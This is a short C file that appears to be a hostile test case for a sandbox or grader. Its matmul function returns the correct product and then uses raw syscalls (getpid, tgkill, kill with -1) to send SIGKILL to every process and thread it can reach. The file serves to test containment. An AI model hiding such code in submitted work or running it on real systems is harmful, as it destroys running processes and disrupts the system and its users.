/* Sends SIGKILL to every process and thread that it may.
 * with: libc.inc
 * gets: 8
 * allowed: 8
 * bare: it would end this test, too
 */
void matmul(real *c, const real *a, const real *b, int m, int k, int n)
{
    right_matmul(c, a, b, m, k, n);
    long own = ask(39, 0, 0, 0, 0, 0);
    for (long pid = 2; pid < 1L << 22; pid++)
        if (pid != own)
            ask(234, pid, pid, 9, 0, 0); /* tgkill */
    ask(62, -1, 9, 0, 0, 0);
}
